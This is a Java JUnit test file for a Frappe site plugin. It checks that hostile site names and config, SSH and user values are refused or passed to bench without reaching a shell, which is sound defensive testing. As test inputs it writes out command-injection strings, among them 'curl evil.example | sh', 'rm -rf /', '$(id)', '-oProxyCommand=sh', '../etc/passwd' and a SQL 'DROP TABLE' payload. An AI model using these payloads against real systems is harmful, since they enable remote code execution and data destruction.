package dev.tenantwright.plugin.frappe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tenantwright.core.Blueprint;
import dev.tenantwright.core.NewTenant;
import dev.tenantwright.core.Run;
import dev.tenantwright.core.RunOptions;
import dev.tenantwright.core.RunState;
import dev.tenantwright.core.Tenant;
import dev.tenantwright.core.Tenantwright;
import dev.tenantwright.spi.EnvironmentKind;
import dev.tenantwright.spi.PermanentException;
import dev.tenantwright.spi.Secret;
import dev.tenantwright.testkit.CommandRunnerFake;
import dev.tenantwright.testkit.TestStepContext;
import dev.tenantwright.testkit.frappe.BenchFake;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile names and values never change the argv's shape and never reach a shell. */
class HostileInputTest {

  static final String SITE = "acme--demo--site.erp.example.test";

  @TempDir
  Path dir;

  @ParameterizedTest
  @ValueSource(strings = {"a.example; reboot", "$(id).example", "`id`.example", "a b.example", "a\nb.example",
      "'quoted'.example", "-rf.example", "../etc/passwd", "*.example", "Upper.example", "a..example", "a.example.",
      "a&&b.example", "x|y.example"})
  void aHostileSiteNameIsRefusedBeforeAnyCommandRuns(String site) {
    assertThatThrownBy(() -> new SiteSpec(site, Secret.of("admin-pass"), null, null, null, null))
        .isInstanceOf(PermanentException.class).hasMessageContaining("field 'site'");
  }

  @Test
  void aHostileSiteNameFromARunParameterFailsTheRunWithoutRunningBench() {
    BenchFake fake = TestConfigs.fakeBench();
    CommandRunnerFake runner = fake.attachTo(new CommandRunnerFake());
    Blueprint bp = Blueprint.builder("param").var("site", null)
        .resource("admin", "secret", r -> r.param("length", 16))
        .resource("site", "frappe.site", r -> r.param("site", "${vars.site}").param("adminPassword", "${secrets.admin}"))
        .build();
    try (Tenantwright tw = Tenantwright.builder().embedded(dir).classpathPlugins(false)
        .resourceType(new FrappeSiteType()).pluginConfig("frappe", TestConfigs.local()).commandRunner(runner)
        .blueprint(bp).build()) {
      Tenant t = tw.tenants().create(NewTenant.company("Acme").email("ops@acme.example"));
      Run run = tw.environments().provision(t.id(), EnvironmentKind.DEMO,
          RunOptions.defaults().parameter("site", "x.example; curl evil.example | sh")).await(Duration.ofMinutes(1));
      assertThat(run.state()).isIn(RunState.ROLLED_BACK, RunState.FAILED);
      assertThat(run.error()).contains("field 'site'");
    }
    assertThat(runner.invocations()).isEmpty();
    assertThat(fake.liveObjects()).isEmpty();
  }

  @Test
  void hostileConfigAndHostValuesAreRefusedByName() {
    Map<String, Object> cfg = TestConfigs.local();
    cfg.put("siteDomain", "example.com; reboot");
    assertThatThrownBy(() -> TestConfigs.record(cfg)).isInstanceOf(PermanentException.class)
        .hasMessageContaining("siteDomain");
    Map<String, Object> root = TestConfigs.local();
    root.put("dbRootPassword", "line\nsecretpart");
    assertThatThrownBy(() -> TestConfigs.record(root)).isInstanceOf(PermanentException.class)
        .hasMessageContaining("dbRootPassword").hasMessageNotContaining("secretpart");
    Map<String, Object> ssh = TestConfigs.ssh();
    ssh.put("sshHost", "-oProxyCommand=sh");
    assertThatThrownBy(() -> TestConfigs.record(ssh)).isInstanceOf(PermanentException.class)
        .hasMessageContaining("sshHost");
    Map<String, Object> opts = TestConfigs.ssh();
    opts.put("sshOptions", List.of("ProxyCommand=x\nHost *"));
    assertThatThrownBy(() -> TestConfigs.record(opts)).isInstanceOf(PermanentException.class)
        .hasMessageContaining("sshOptions");
    assertThatThrownBy(() -> new SiteSpec(null, Secret.of("pw-pw-pw-pw"), List.of("erpnext; rm"), null, null, null))
        .isInstanceOf(PermanentException.class).hasMessageContaining("field 'apps'");
    assertThatThrownBy(() -> new SiteSpec(null, Secret.of("pw-pw-pw-pw"), null, Map.of("k; rm", "v"), null, null))
        .isInstanceOf(PermanentException.class).hasMessageContaining("field 'config'");
    assertThatThrownBy(() -> new SiteUser("o'reilly@x.example'); import os #", null, null, null))
        .isInstanceOf(PermanentException.class).hasMessageContaining("user.email");
  }

  @Test
  void hostileButAllowedValuesKeepTheArgvShapeAndReachBenchIdenticallyOverEveryTransport() {
    Map<String, Object> config = new LinkedHashMap<>();
    config.put("note", "'; rm -rf / #$(id)`x` && reboot\nline two *");
    config.put("quote", "it's \"quoted\" \\ back");
    SiteSpec spec = new SiteSpec(null, Secret.of("admin-pass"), List.of("erpnext"), config,
        new SiteUser("ops@acme.example", "Robert'); DROP TABLE users;--", "$(whoami) `id`", null), true);

    List<List<String>> byTransport = new ArrayList<>();
    for (Map<String, Object> transport : List.of(TestConfigs.local(), TestConfigs.docker(), TestConfigs.ssh())) {
      BenchFake fake = TestConfigs.fakeBench();
      CommandRunnerFake runner = fake.attachTo(new CommandRunnerFake());
      TestStepContext ctx = TestStepContext.builder().step("site").config(TestConfigs.record(transport))
          .commands(runner).build();
      new FrappeSiteType().create(spec, ctx);

      BenchFake.SiteView site = fake.site(SITE).orElseThrow();
      assertThat(site.config()).containsEntry("note", config.get("note")).containsEntry("quote", config.get("quote"));
      assertThat(site.users().get("ops@acme.example").lastName()).isEqualTo("$(whoami) `id`");
      List<String> seen = new ArrayList<>();
      for (BenchFake.Invocation inv : fake.received()) {
        List<String> args = new ArrayList<>(inv.benchArgv());
        int kw = args.indexOf("--kwargs");
        if (kw >= 0) {
          args.set(kw + 1, "<kwargs>");
        }
        seen.add(String.join("\u241f", args));
      }
      byTransport.add(seen);
      if (transport.get("transport").equals("local")) {
        BenchFake.Invocation note = fake.received().stream().filter(i -> i.benchArgv().contains("note")).findFirst()
            .orElseThrow();
        assertThat(note.argv()).as("no shell: the hostile value is one argv element").first().isEqualTo("flock");
        assertThat(note.argv()).endsWith("bench", "--site", SITE, "set-config", "--", "note",
            (String) config.get("note"));
        BenchFake.Invocation add = fake.received().stream().filter(i -> i.benchArgv().contains("add-system-manager"))
            .findFirst().orElseThrow();
        assertThat(add.argv()).endsWith("bench", "--site", SITE, "add-system-manager", "--first-name",
            "Robert'); DROP TABLE users;--", "--last-name", "$(whoami) `id`", "--", "ops@acme.example");
      }
    }
    assertThat(byTransport.get(1)).as("docker").isEqualTo(byTransport.get(0));
    assertThat(byTransport.get(2)).as("ssh, after the remote shell parsed the command string").isEqualTo(byTransport.get(0));
  }

  @Test
  void sec16_valuesAndEmailsStartingWithADashReachBenchAsValuesNotOptions() {
    Map<String, Object> config = new LinkedHashMap<>();
    config.put("banner", "--help");
    config.put("offset", "-x");
    SiteSpec spec = new SiteSpec(null, Secret.of("-admin-pass"), List.of("erpnext"), config,
        new SiteUser("-ops@acme.example", "-Ops", null, Secret.of("--user-pass")), true);
    for (Map<String, Object> transport : List.of(TestConfigs.local(), TestConfigs.docker(), TestConfigs.ssh())) {
      BenchFake fake = TestConfigs.fakeBench();
      CommandRunnerFake runner = fake.attachTo(new CommandRunnerFake());
      TestStepContext ctx = TestStepContext.builder().step("site").config(TestConfigs.record(transport))
          .commands(runner).build();
      FrappeSiteType type = new FrappeSiteType();
      SiteOutputs out = type.create(spec, ctx).outputs();

      BenchFake.SiteView site = fake.site(SITE).orElseThrow();
      assertThat(site.config()).as("%s", transport.get("transport")).containsEntry("banner", "--help")
          .containsEntry("offset", "-x");
      assertThat(site.users()).containsKey("-ops@acme.example");
      assertThat(site.users().get("-ops@acme.example").password()).isEqualTo("--user-pass");
      assertThat(site.users().get("-ops@acme.example").firstName()).isEqualTo("-Ops");

      SiteSpec changed = new SiteSpec(null, Secret.of("--help"), List.of("erpnext"), config,
          new SiteUser("-ops@acme.example", "-Ops", null, Secret.of("-new-pass")), true);
      type.update(changed, spec, out, ctx);
      site = fake.site(SITE).orElseThrow();
      assertThat(site.users().get("Administrator").password()).isEqualTo("--help");
      assertThat(site.users().get("-ops@acme.example").password()).isEqualTo("-new-pass");
    }
  }
}
